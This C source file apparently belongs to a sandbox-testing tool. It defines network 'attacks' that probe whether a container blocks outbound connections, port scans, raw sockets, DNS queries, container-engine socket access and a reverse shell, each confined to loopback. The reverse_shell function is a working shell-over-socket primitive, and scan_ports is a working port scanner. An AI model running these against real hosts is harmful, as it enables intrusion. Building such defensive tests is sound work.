// SPDX-License-Identifier: Apache-2.0
/*
 * Connections to addresses that matter. Each address is first made this container's own, in a network that leads
 * nowhere: something answers there, and no packet leaves the machine.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define SCANNED_PORTS 200
#define ANSWER_DEADLINE_MS 5000

static struct sockaddr_in internet_address(const char *address, int port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	inet_pton(AF_INET, address, &to.sin_addr);
	return to;
}

/* As a second name of the loopback interface. Refuses where anything but it could carry packets away. */
int own_address(const char *address)
{
	struct if_nameindex *interfaces = if_nameindex();
	struct sockaddr_in to = internet_address(address, 0);
	struct ifreq request;
	int fd, failed, others = 0;

	for (struct if_nameindex *one = interfaces; one && one->if_index; one++)
		others += strcmp(one->if_name, "lo") != 0 && strncmp(one->if_name, "tunl", 4) != 0 &&
			  strncmp(one->if_name, "sit", 3) != 0 && strncmp(one->if_name, "ip6tnl", 6) != 0;
	if_freenameindex(interfaces);
	if (others > 0) {
		errno = EADDRNOTAVAIL;
		return -1;
	}
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	memset(&request, 0, sizeof(request));
	strcpy(request.ifr_name, "lo:1");
	memcpy(&request.ifr_addr, &to, sizeof(to));
	failed = fd < 0 || ioctl(fd, SIOCSIFADDR, &request) < 0;
	if (fd >= 0)
		close(fd);
	return failed ? -1 : 0;
}

int listener_at(const char *address, int port)
{
	struct sockaddr_in at = internet_address(address, port);
	int one = 1;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0 || listen(fd, 8) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Whom an attack connects to: somebody of this container's own, who listens. */
struct peer {
	const char *address;
	int port;
	int listener;
	struct sockaddr_in at;
};

/* Makes one of ADDRESS and PORT. Anything but 0 is how the attack has ended instead. */
static int make_peer(const char *usage, int argc, char **argv, struct peer *peer)
{
	if (argc != 2)
		return misused(usage);
	peer->address = argv[0];
	peer->port = atoi(argv[1]);
	peer->at = internet_address(peer->address, peer->port);
	if (own_address(peer->address) < 0)
		return impossible("the network leads somewhere, or cannot be changed");
	peer->listener = listener_at(peer->address, peer->port);
	return peer->listener < 0 ? refused("listen") : 0;
}

/* connect ADDRESS PORT */
static int connect_to(int argc, char **argv)
{
	struct peer peer;
	int fd, ended;

	ended = make_peer("connect ADDRESS PORT", argc, argv, &peer);
	if (ended != 0)
		return ended;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
		return refused("connect");
	return took_effect();
}

/* connect-fast ADDRESS PORT: what is sent opens the connection. */
static int connect_fast(int argc, char **argv)
{
	struct peer peer;
	int fd, ended;

	ended = make_peer("connect-fast ADDRESS PORT", argc, argv, &peer);
	if (ended != 0)
		return ended;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
		return errno == EOPNOTSUPP ? impossible("a kernel without TCP fast open") : refused("sendto");
	return took_effect();
}

/* The same address, written as one of IPv6. */
static int connect_mapped(int argc, char **argv)
{
	struct sockaddr_in6 to = { .sin6_family = AF_INET6 };
	struct peer peer;
	char mapped[64];
	int fd, ended;

	ended = make_peer("connect-mapped ADDRESS PORT", argc, argv, &peer);
	if (ended != 0)
		return ended;
	snprintf(mapped, sizeof(mapped), "::ffff:%s", peer.address);
	inet_pton(AF_INET6, mapped, &to.sin6_addr);
	to.sin6_port = htons((uint16_t)peer.port);
	fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return errno == EAFNOSUPPORT ? impossible("no IPv6") : refused("socket");
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return refused("connect");
	return took_effect();
}

/* accept ADDRESS PORT: somebody comes from outside; it is ourselves. */
static int accept_at(int argc, char **argv)
{
	struct peer peer;
	int fd, accepted, ended;

	ended = make_peer("accept ADDRESS PORT", argc, argv, &peer);
	if (ended != 0)
		return ended;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
		return refused("connect");
	accepted = accept4(peer.listener, NULL, NULL, SOCK_CLOEXEC);
	return accepted < 0 ? refused("accept") : took_effect();
}

/* receive-code ADDRESS PORT: the beginning of a compiled class comes over a connection. */
static int receive_code(int argc, char **argv)
{
	static const char code[] = "\xca\xfe\xba\xbe\x00\x00\x00\x41";
	struct peer peer;
	char buffer[64];
	int fd, accepted, ended;

	ended = make_peer("receive-code ADDRESS PORT", argc, argv, &peer);
	if (ended != 0)
		return ended;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
		return refused("connect");
	accepted = accept4(peer.listener, NULL, NULL, SOCK_CLOEXEC);
	if (accepted < 0 || write_all(accepted, code, sizeof(code) - 1) < 0)
		return refused("accept");
	return recv(fd, buffer, sizeof(buffer), 0) == (ssize_t)sizeof(code) - 1 ? took_effect() : refused("recv");
}

static int receive_datagram(int fd)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };
	char buffer[1024];

	if (poll(&wait, 1, ANSWER_DEADLINE_MS) != 1)
		return -1;
	return recv(fd, buffer, sizeof(buffer), 0) < 0 ? -1 : 0;
}

static int send_datagram(const char *address, int port, const void *data, size_t length)
{
	struct sockaddr_in to = internet_address(address, port);
	int receiver, sender;

	if (own_address(address) < 0)
		return impossible("the network leads somewhere, or cannot be changed");
	receiver = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	sender = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (receiver < 0 || sender < 0 || bind(receiver, (struct sockaddr *)&to, sizeof(to)) < 0)
		return refused("bind");
	if (sendto(sender, data, length, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		return refused("sendto");
	return receive_datagram(receiver) < 0 ? refused("receive") : took_effect();
}

/* A connected one: to whoever reads connect, the protocol alone tells it from TCP. */
static int connect_datagram(int argc, char **argv)
{
	struct sockaddr_in to;
	int receiver, sender;

	if (argc != 2)
		return misused("connect-datagram ADDRESS PORT");
	if (own_address(argv[0]) < 0)
		return impossible("the network leads somewhere, or cannot be changed");
	to = internet_address(argv[0], atoi(argv[1]));
	receiver = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	sender = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (receiver < 0 || sender < 0 || bind(receiver, (struct sockaddr *)&to, sizeof(to)) < 0)
		return refused("bind");
	if (connect(sender, (struct sockaddr *)&to, sizeof(to)) < 0 || send(sender, "x", 1, 0) < 0)
		return refused("connect");
	return receive_datagram(receiver) < 0 ? refused("receive") : took_effect();
}

static size_t put_label(unsigned char *at, const char *label)
{
	size_t length = strlen(label);

	at[0] = (unsigned char)length;
	memcpy(at + 1, label, length);
	return length + 1;
}

/* ask-name NAME ADDRESS: a question for a name, at port 53. */
static int ask_name(int argc, char **argv)
{
	unsigned char question[512] = { 0x51, 0x37, 0x01, 0x00, 0, 1 };
	size_t length = 12;
	char *label;

	if (argc != 2 || strlen(argv[0]) > 250)
		return misused("ask-name NAME ADDRESS");
	for (label = strtok(argv[0], "."); label; label = strtok(NULL, ".")) {
		if (strlen(label) > 63)
			return misused("ask-name: a label is longer than 63 bytes");
		length += put_label(question + length, label);
	}
	length += 1; /* the root */
	question[length + 1] = 16; /* TXT */
	question[length + 3] = 1; /* IN */
	return send_datagram(argv[1], 53, question, length + 4);
}

/* Many ports of one address, none of which answers. */
static int scan_ports(int argc, char **argv)
{
	int refusals = 0;

	if (argc != 1)
		return misused("scan-ports ADDRESS");
	if (own_address(argv[0]) < 0)
		return impossible("the network leads somewhere, or cannot be changed");
	for (int port = 1; port <= SCANNED_PORTS; port++) {
		struct sockaddr_in to = internet_address(argv[0], port);
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			return refused("socket");
		if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 && errno == ECONNREFUSED)
			refusals++;
		close(fd);
	}
	errno = EPERM;
	return refusals == SCANNED_PORTS ? took_effect() : refused("connect");
}

static int open_packet_socket(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)) < 0 ? refused("socket") : took_effect();
}

/* The type by which packet sockets were asked for before they had a family. */
static int open_old_packet_socket(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return socket(AF_INET, SOCK_PACKET | SOCK_CLOEXEC, htons(ETH_P_ALL)) < 0 ? refused("socket") : took_effect();
}

static int open_raw_socket(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP) < 0 ? refused("socket") : took_effect();
}

/* connect-engine PATH [LINK]: says hello to an engine, by a link that is made for it where one is named. */
static int connect_engine(int argc, char **argv)
{
	static const char hello[] = "GET /_ping HTTP/1.0\r\nHost: engine\r\n\r\n";
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (argc != 1 && argc != 2)
		return misused("connect-engine PATH [LINK]");
	if (argc == 2)
		unlink(argv[1]);
	if (argc == 2 && symlink(argv[0], argv[1]) < 0)
		return refused("symlink");
	snprintf(to.sun_path, sizeof(to.sun_path), "%s", argv[argc - 1]);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return errno == ENOENT ? impossible("no such socket") : refused("connect");
	return write_all(fd, hello, sizeof(hello) - 1) < 0 ? refused("write") : read_some(fd);
}

/* connect-abstract NAME: a socket without a file; in this container's own network something listens there. */
static int connect_abstract(int argc, char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	socklen_t length;
	int listener, fd;

	if (argc != 1)
		return misused("connect-abstract NAME");
	snprintf(at.sun_path + 1, sizeof(at.sun_path) - 1, "%s", argv[0]);
	length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[0]));
	listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (listener < 0 || fd < 0 || bind(listener, (struct sockaddr *)&at, length) < 0 || listen(listener, 1) < 0)
		return refused("listen");
	return connect(fd, (struct sockaddr *)&at, length) < 0 ? refused("connect") : took_effect();
}

/* Whoever listens hears what the shell says: only then did it reach outside. */
static int hear_from(int listener, pid_t shell)
{
	struct pollfd wait = { .fd = listener, .events = POLLIN };
	char heard[512];
	ssize_t length = 0;
	int fd = -1;

	if (poll(&wait, 1, ANSWER_DEADLINE_MS) == 1)
		fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	wait.fd = fd;
	if (fd >= 0 && poll(&wait, 1, ANSWER_DEADLINE_MS) == 1)
		length = read(fd, heard, sizeof(heard) - 1);
	waitpid(shell, NULL, 0);
	heard[length > 0 ? length : 0] = '\0';
	errno = EPIPE;
	return strstr(heard, "pratique-effect") ? took_effect() : refused("the shell");
}

/* reverse-shell ADDRESS PORT */
static int reverse_shell(int argc, char **argv)
{
	char *words[] = { "sh", "-i", NULL };
	struct peer peer;
	pid_t shell;
	int ended;

	ended = make_peer("reverse-shell ADDRESS PORT", argc, argv, &peer);
	if (ended != 0)
		return ended;
	shell = fork();
	if (shell == 0) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
			_exit(REFUSED);
		for (int standard = 0; standard <= 2; standard++)
			if (dup2(fd, standard) < 0)
				_exit(REFUSED);
		_exit(run_chain(2, words));
	}
	return shell < 0 ? refused("fork") : hear_from(peer.listener, shell);
}

const struct attack network_attacks[] = {
	{ "connect", connect_to },
	{ "connect-fast", connect_fast },
	{ "connect-mapped", connect_mapped },
	{ "connect-datagram", connect_datagram },
	{ "accept", accept_at },
	{ "receive-code", receive_code },
	{ "ask-name", ask_name },
	{ "scan-ports", scan_ports },
	{ "open-packet-socket", open_packet_socket },
	{ "open-old-packet-socket", open_old_packet_socket },
	{ "open-raw-socket", open_raw_socket },
	{ "connect-engine", connect_engine },
	{ "connect-abstract", connect_abstract },
	{ "reverse-shell", reverse_shell },
	{ NULL, NULL },
};
